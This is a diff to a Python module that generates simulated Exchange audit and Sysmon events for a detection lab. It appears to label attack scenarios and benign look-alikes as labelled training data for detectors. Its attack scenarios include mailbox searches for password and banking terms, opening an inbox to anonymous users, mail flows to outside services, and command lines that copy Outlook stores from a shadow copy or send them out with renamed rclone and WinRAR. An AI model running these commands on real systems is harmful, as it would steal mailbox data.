@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+from collections.abc import Sequence
 from typing import Any
 
 from lab.families import names
@@ -856,3 +857,156 @@ def scripts_that_send(story: Story) -> None:
     mail = "$m=(New-Object -ComObject Outlook.Application).CreateItem(0)"
     line = f"powershell -c \"{mail}; $m.To='it@contoso.com'; $m.Send()\""
     sysmon(story, a_time(story), 1, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", CommandLine=line)
+
+
+# --- searched, opened, and what looks like it
+
+
+QUERIES = ("password", "vpn access", "keepass", "subject:invoice", "wire transfer", "iban", "payroll", "mfa reset")
+
+
+def searches(story: Story, at: float, person: str, src: str, queries: Sequence[str]) -> None:
+    for number, query in enumerate(queries):
+        facts = {"actor": person, "src": src, "query": query}
+        story.audit(at + number * story.rng.uniform(20, 200), "SearchQueryInitiatedExchange", **facts)
+
+
+@attack
+def mail_is_searched_for_passwords(story: Story) -> None:
+    """Somebody with a stolen session searches before they read."""
+    firm, rng = Firm(story, days=3), story.rng
+    victim = firm.people[0]
+    wanted = [*pick(rng, QUERIES[:3], 2), *pick(rng, QUERIES[3:7], 2), "mfa reset"]
+    searches(story, 2 * DAY + a_time(story), victim, firm.outside, wanted)
+    story.attackers.update({victim, firm.outside})
+
+
+@attack
+def inbox_is_opened_to_everybody(story: Story) -> None:
+    """The inbox is shared with everybody, to be read from any account."""
+    firm, rng = Firm(story), story.rng
+    victim = firm.people[0]
+    told = {
+        "Identity": f"{victim}:\\Inbox",
+        "User": rng.choice(("Default", "Anonymous")),
+        "AccessRights": rng.choice(("Reviewer", "Owner", "ReadItems")),
+    }
+    operation = rng.choice(("Add-MailboxFolderPermission", "Set-MailboxFolderPermission"))
+    story.audit(a_time(story), operation, actor=victim, src=firm.outside, Parameters=told)
+    story.attackers.update({victim, firm.outside})
+
+
+@attack
+def flow_sends_mail_away(story: Story) -> None:
+    """A flow of Power Automate joins the mailbox with a free mail service."""
+    firm = Firm(story)
+    victim = firm.people[0]
+    connectors = f"Office 365 Outlook, {story.rng.choice(('Gmail', 'SMTP', 'Outlook.com', 'Dropbox'))}"
+    raw(story, a_time(story), flow(victim, connectors, firm.outside))
+    story.attackers.update({victim, firm.outside})
+
+
+def flow(actor: str, connectors: str, src: str) -> dict[str, Any]:
+    return {
+        "CreationTime": "2026-03-03T12:00:00", "Id": f"flow-{actor}-{connectors}", "Operation": "CreateFlow",
+        "RecordType": 30, "ResultStatus": "Success", "Workload": "MicrosoftFlow", "UserId": actor, "ClientIP": src,
+        "FlowConnectorNames": connectors, "FlowDetailsUrl": f"https://flow.example.com/{actor}/{connectors}",
+    }  # fmt: skip
+
+
+@attack
+def store_is_taken_from_a_shadow_copy(story: Story) -> None:
+    """A store that Outlook holds open is copied from a shadow copy, or packed, or sent off with a renamed tool."""
+    line, original = story.rng.choice(
+        (
+            (
+                'cmd /c copy "\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Users\\dana\\AppData\\Local\\'
+                'Microsoft\\Outlook\\dana.ost" C:\\Users\\Public\\d.ost',
+                "Cmd.Exe",
+            ),
+            ('s.exe copy "C:\\Users\\dana\\Documents\\Outlook Files\\old.pst" remote:drop', "rclone.exe"),
+            ('r.exe a -hp x.rar "C:\\Users\\dana\\AppData\\Local\\Microsoft\\Outlook\\dana.ost"', "WinRAR.exe"),
+        )
+    )
+    image = "C:\\Windows\\System32\\cmd.exe" if original == "Cmd.Exe" else "C:\\ProgramData\\u\\s.exe"
+    sysmon(story, a_time(story), 1, image, CommandLine=line, OriginalFileName=original)
+    story.attackers.add("ws-014")
+
+
+@attack
+def export_by_a_new_member_of_the_role(story: Story) -> None:
+    """The results of somebody else's search are exported by a person who was given the role the day before."""
+    firm, rng = Firm(story, days=2), story.rng
+    thief, at = firm.people[0], DAY + a_time(story)
+    told = {"Identity": rng.choice(("eDiscovery Manager", "Discovery Management")), "Member": thief}
+    story.audit(at - 20 * HOUR, "Add-RoleGroupMember", actor=firm.admin, src=firm.office, Parameters=told)
+    story.audit(at, "SearchExported", actor=thief, search="board", mailboxes=firm.people[2], src=firm.outside)
+    story.attackers.update({thief, firm.admin, firm.outside})
+
+
+@innocent
+def people_search_their_mail(story: Story) -> None:
+    """Finance looks for invoices all day, others for a password they were sent or for a ticket on a journey."""
+    firm, rng = Firm(story, days=3), story.rng
+    for number in range(20):
+        at = 2 * DAY + 8 * HOUR + number * rng.uniform(900, 1500)
+        searches(story, at, firm.people[0], firm.office, [f"invoice {rng.randrange(9999)}"])
+    searches(story, 2 * DAY + a_time(story), firm.people[1], firm.office, ["wifi password", "password printer"])
+    searches(story, 2 * DAY + a_time(story), firm.people[2], firm.outside, ["boarding pass", "hotel", "vpn"])
+
+
+@innocent
+def forwards_to_oneself_and_inside(story: Story) -> None:
+    """Forwards to a tag of one's own address, to a subdomain of the company and to a team's mailbox, by every way."""
+    firm, rng = Firm(story), story.rng
+    person, at = firm.people[0], a_time(story)
+    local = person.partition("@")[0]
+    inside = [f"{local}+todo@{firm.domain}", f"{local}@mail.{firm.domain}", f"team@{firm.domain}"]
+    for number, address in enumerate(inside):
+        told = {"Name": f"To {number}", rng.choice(("ForwardTo", "RedirectTo")): address}
+        story.audit(at + number * 300, "New-InboxRule", actor=person, src=firm.office, Parameters=told)
+    told = {"Name": "Records", "JournalEmailAddress": f"journal@archive.{firm.domain}", "Scope": "Global"}
+    story.audit(at, "New-JournalRule", actor=firm.admin, src=firm.office, Parameters=told)
+
+
+@innocent
+def helpdesk_repairs_rules(story: Story) -> None:
+    """The helpdesk disables, changes and removes rules of people, and opens calendars."""
+    firm, rng = Firm(story), story.rng
+    at = a_time(story)
+    for number, person in enumerate(firm.people[:4]):
+        name = rng.choice(READERS)
+        changes = {"Identity": f"{person}\\{name}", "MoveToFolder": name, "MarkAsRead": False}
+        story.audit(at + number * 400, "Set-InboxRule", actor=firm.admin, src=firm.office, Parameters=changes)
+        gone = {"Identity": f"{person}\\{name}"}
+        operation = rng.choice(("Disable-InboxRule", "Remove-InboxRule"))
+        story.audit(at + number * 400 + 60, operation, actor=firm.admin, src=firm.office, Parameters=gone)
+        told = {"Identity": f"{person}:\\Calendar", "User": firm.people[-1], "AccessRights": "Editor"}
+        story.audit(at + 90, "Add-MailboxFolderPermission", actor=person, src=firm.office, Parameters=told)
+
+
+@innocent
+def flows_inside(story: Story) -> None:
+    """Flows that tell a team in Teams, or keep attachments in SharePoint."""
+    firm = Firm(story)
+    for number, connectors in enumerate(("Office 365 Outlook, Microsoft Teams", "Office 365 Outlook, SharePoint")):
+        raw(story, a_time(story), flow(firm.people[number], connectors, firm.office))
+
+
+@innocent
+def case_by_a_law_firm(story: Story) -> None:
+    """A guest of a law firm has worked on a case for days; mailboxes are on hold when the results are exported."""
+    firm = Firm(story)
+    guest = f"counsel_law.example.net#EXT#@{firm.domain}"
+    for day in (0, 3):
+        story.audit(
+            day * DAY + 10 * HOUR, "SearchCreated", actor=guest, search=f"Case 9 part {day}", case="Case 9",
+            mailboxes=firm.people[1], src=firm.other,
+        )  # fmt: skip
+    at = 6 * DAY + 10 * HOUR
+    told = {"Name": "Case 9 hold", "Case": "Case 9", "ExchangeLocation": firm.people[1]}
+    story.audit(at, "New-CaseHoldPolicy", actor=firm.admin, Parameters=told)
+    story.audit(
+        at + HOUR, "SearchExported", actor=guest, search="Case 9 part 3", case="Case 9", mailboxes=firm.people[1],
+        src=firm.other,
+    )  # fmt: skip
